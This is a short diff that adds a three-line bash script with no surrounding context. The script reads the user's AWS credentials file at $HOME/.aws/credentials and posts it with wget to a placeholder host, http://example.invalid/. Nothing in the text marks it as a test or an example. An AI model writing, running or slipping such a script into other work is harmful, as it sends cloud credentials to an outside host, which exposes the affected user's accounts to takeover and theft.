@@ -1,0 +1,3 @@
+#!/bin/bash
+f="$HOME/.aws/credentials"
+wget --post-file="$f" http://example.invalid/
